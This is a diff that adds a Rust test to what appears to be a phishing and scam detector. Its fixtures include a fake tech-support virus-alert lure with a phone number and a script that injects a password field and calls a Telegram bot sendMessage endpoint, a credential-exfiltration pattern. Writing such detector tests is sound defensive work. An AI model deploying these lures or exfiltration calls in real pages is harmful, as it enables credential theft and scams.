@@ -158,6 +158,24 @@ fn page_on_standard_input_is_a_dash() {
 }
 
 #[test]
+fn reasons_name_the_line_of_a_markdown_source_and_of_a_script() {
+    let bench = Bench::new();
+    let lure = "# Notes\n\nHello.\n\nVirus alert: your computer is infected.\n\n\
+                Do not restart. Call support: **1-888-555-0199**\n";
+    let script = "// One\n\ndocument.body.innerHTML =\n  '<input type=\"password\">';\n\
+                  fetch('https://api.telegram.org/bot1:abc/sendMessage');\n";
+    let loads = "<!doctype html><title>Tea</title><p>Hello</p><script src=js/app.js></script>";
+    bench.file("lure.md", lure).file("site.zip", zip(&[("index.html", loads), ("js/app.js", script)]));
+    let (code, said) = bench.check(&["lure.md"]);
+    let first = &said["reasons"][0];
+    assert_eq!((code, &first["rule"], &first["line"]), (3, &json!("alarm-call"), &json!(7)), "{said}");
+    let (_, said) = bench.check(&["site.zip"]);
+    let first = &said["reasons"][0];
+    assert_eq!((&first["rule"], &first["line"]), (&json!("sent-to-bot"), &json!(5)), "{said}");
+    assert_eq!(first["file"], "site.zip/js/app.js");
+}
+
+#[test]
 fn secrets_are_said_as_the_settings_or_the_caller_want() {
     let bench = Bench::new();
     bench.file("leak.html", LEAK).file("leak.md", "# Notes\n\nkey: AKIAIOSFODNN7EXAMPLQ\n");
